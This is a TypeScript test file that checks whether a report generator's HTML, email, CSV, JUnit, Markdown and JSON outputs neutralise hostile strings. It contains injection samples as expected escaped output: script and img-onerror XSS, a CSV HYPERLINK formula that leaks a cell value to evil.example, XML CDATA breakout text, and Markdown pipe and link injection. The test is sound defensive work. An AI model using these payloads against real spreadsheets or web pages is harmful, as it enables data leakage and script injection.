/**
 * The hostile-strings fixture through every format: markup stays text, spreadsheets get no formulas,
 * XML stays well-formed, Markdown cannot inject HTML or break a table row.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildReportModel } from '../../src/report/model.js';
import { renderEmailSummary } from '../../src/report/renderers/email-summary.js';
import { RENDERERS, type REPORT_FORMATS } from '../../src/report/renderers/index.js';
import { escapeMarkdown, neutraliseFormula } from '../../src/util/text-safety.js';
import { PACKAGE_ROOT } from '../../src/version.js';
import { FIXED_NOW, FIXED_SHA, fixtureAudit, fixtureSnapshot, HOSTILE } from '../fixtures/report/estate.js';

const snapshot = fixtureSnapshot({ hostile: true });
const model = buildReportModel({
  snapshot,
  snapshotSha256: FIXED_SHA,
  audit: fixtureAudit(snapshot),
  generatedAt: FIXED_NOW,
});

async function text(format: (typeof REPORT_FORMATS)[number]): Promise<string> {
  const out = await RENDERERS[format].render(model);
  return typeof out === 'string' ? out : Buffer.from(out).toString('utf8');
}

/** Tags an HTML document may contain: only the template's own. */
const ALLOWED_TAGS = new Set(
  'html head meta title style body div header span h1 h2 h3 h4 code table tr td th thead tbody details summary p ul li dl dt dd br strong em footer bdi input'.split(
    ' ',
  ),
);

/** The report's own script (sort and filter): present exactly once, byte for byte; the rest is checked. */
const OWN_SCRIPT = `<script>${readFileSync(join(PACKAGE_ROOT, 'reports', 'partials', 'report-js.js'), 'utf8')}</script>`;
function withoutOwnScript(html: string): string {
  if (!html.includes('<html')) return html;
  expect(html.split(OWN_SCRIPT).length - 1).toBe(1);
  return html.replace(OWN_SCRIPT, '');
}

function tagsOf(html: string): Set<string> {
  return new Set([...html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)/g)].map((m) => m[1]!.toLowerCase()));
}

/** A previous review whose names are hostile too: an escalated user, a leaver, a file name. */
function withHostilePrevious() {
  const previous = structuredClone(snapshot);
  const orgA = previous.organizations[0]!;
  orgA.users[0]!.orgRoles = ['ORG_MEMBER'];
  orgA.users.push({
    ...structuredClone(orgA.users[1]!),
    id: 'ff00000000000000000000ff',
    username: HOSTILE.script,
  });
  const previousAudit = fixtureAudit(previous);
  previousAudit.findings[0] = {
    ...previousAudit.findings[0]!,
    key: 'gone-rule|x',
    message: HOSTILE.img,
    subject: { type: 'user', id: 'ff00000000000000000000ff', name: HOSTILE.markdown },
  };
  return buildReportModel({
    snapshot,
    snapshotSha256: FIXED_SHA,
    audit: fixtureAudit(snapshot),
    generatedAt: FIXED_NOW,
    previous: { snapshot: previous, snapshotSha256: FIXED_SHA, file: HOSTILE.img, audit: previousAudit },
  });
}

describe('hostile strings', () => {
  it('the changes section (HTML, email, Markdown) escapes hostile names from both snapshots', () => {
    const m = withHostilePrevious();
    expect(m.changes!.summary.escalations).toBe(1);
    expect(m.changes!.resolved).toHaveLength(1);
    const html = RENDERERS.html.render(m) as string;
    for (const page of [html, renderEmailSummary(m).html]) {
      const doc = page.includes('id="findings"') ? withoutOwnScript(page) : page;
      for (const tag of tagsOf(doc)) expect(ALLOWED_TAGS.has(tag), `unexpected <${tag}>`).toBe(true);
      expect(doc).not.toContain('<script');
      expect(doc).not.toContain('<img');
    }
    expect(html).toContain('<h2 id="changes">');
    expect(html).toContain('&lt;script&gt;document.title&#x3D;&quot;pwned&quot;');
    const md = RENDERERS.markdown.render(m) as string;
    expect(md).toContain('## Changes since the last review');
    expect(md).not.toContain('<script');
    expect(md).not.toContain('<img');
    for (const line of md.split('\n').filter((l) => l.startsWith('- '))) expect(line).not.toMatch(/[\r\t]/);
  });

  it('HTML report and email: every Atlas value escaped, no foreign tags or handlers', () => {
    for (const page of [RENDERERS.html.render(model) as string, renderEmailSummary(model).html]) {
      const html = page.includes('id="findings"') ? withoutOwnScript(page) : page;
      for (const tag of tagsOf(html)) expect(ALLOWED_TAGS.has(tag), `unexpected <${tag}>`).toBe(true);
      expect(html).not.toContain('<script');
      expect(html).not.toContain('<img');
      expect(html).not.toMatch(/\sonerror=/i);
      expect(html).toContain('&lt;script&gt;document.title&#x3D;&quot;pwned&quot;');
    }
    const html = RENDERERS.html.render(model) as string;
    expect(html).toContain('&lt;img src&#x3D;x onerror&#x3D;&quot;window.__pwned&#x3D;2&quot;&gt;');
    expect(html).toContain(HOSTILE.long);
    expect(html).toContain('🔥👩‍💻 ops-team 🚀');
    expect(html).toContain(HOSTILE.rtl);
    expect(html).toContain('O&#x27;Brien &quot;the&quot; &#x60;admin&#x60; &amp; &lt;co&gt;');
  });

  it('email text and subject carry no control characters or line breaks from data', () => {
    const email = renderEmailSummary(model);
    expect(email.subject).not.toMatch(/[\r\n]/);
    expect(email.text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(email.text).toContain(HOSTILE.script);
  });

  it('CSV: formula-like cells are apostrophe-prefixed and quoted; rows stay one per identity', async () => {
    const csv = await text('csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    expect(csv).toContain(`"'+SUM(1,2)"`);
    expect(csv).toContain(`'@SUM(A1)`);
    expect(csv).toContain(`'-2+3`);
    expect(csv).toContain(`"'\r=1+1"`);
    // No field (after a delimiter or at line start) begins with a formula character.
    const fields = csv.split(/,|\r\n/).map((f) => f.replace(/^"/, ''));
    for (const f of fields) expect(f).not.toMatch(/^[=+\-@\t]/);
  });

  it('JUnit: well-formed, hostile text only as escaped text, one <testcase> per finding or pass', async () => {
    const xml = await text('junit');
    expect(xml).not.toContain('<testcase name="fake"/>');
    expect(xml).toContain(']]&gt;&lt;/failure&gt;&lt;testcase name=&quot;fake&quot;/&gt;');
    const opens = (xml.match(/<testcase /g) ?? []).length;
    const total = Number(/<testsuites [^>]*tests="(\d+)"/.exec(xml)?.[1]);
    expect(opens).toBe(total);
    expect((xml.match(/<failure /g) ?? []).length).toBe(model.summary.findings.gating);
    expect(xml).not.toContain('\r');
  });

  it('Markdown: no raw HTML, no table-breaking pipes or newlines from data', async () => {
    const md = await text('markdown');
    expect(md).not.toContain('<script');
    expect(md).not.toContain('<b>');
    expect(md).toContain('&lt;script&gt;');
    expect(md).toContain('\\| pipe \\| \\`code\\` \\*\\*bold\\*\\* \\[link\\](http://evil.example)');
    for (const line of md.split('\n').filter((l) => l.startsWith('| '))) {
      const header = md.split('\n').find((l) => l.startsWith('|') && l.includes('---'));
      expect(header).toBeTruthy();
      // Unescaped pipes delimit cells: a data row never has more cells than the widest header.
      expect(line.split(/(?<!\\)\|/).length).toBeLessThanOrEqual(10);
    }
  });

  it('JSON: round-trips every hostile string exactly', async () => {
    const parsed = JSON.parse(await text('json'));
    expect(parsed.organizations[0].name).toBe(HOSTILE.script);
    expect(JSON.stringify(parsed)).toContain(JSON.stringify(HOSTILE.hyperlink).slice(1, -1));
  });

  it('text-safety helpers', () => {
    for (const s of ['=1', '+1', '-1', '@a', '\tx', '\rx']) expect(neutraliseFormula(s)).toBe(`'${s}`);
    expect(neutraliseFormula('alice@example.com')).toBe('alice@example.com');
    expect(escapeMarkdown('a|b\nc')).toBe('a\\|b c');
  });
});
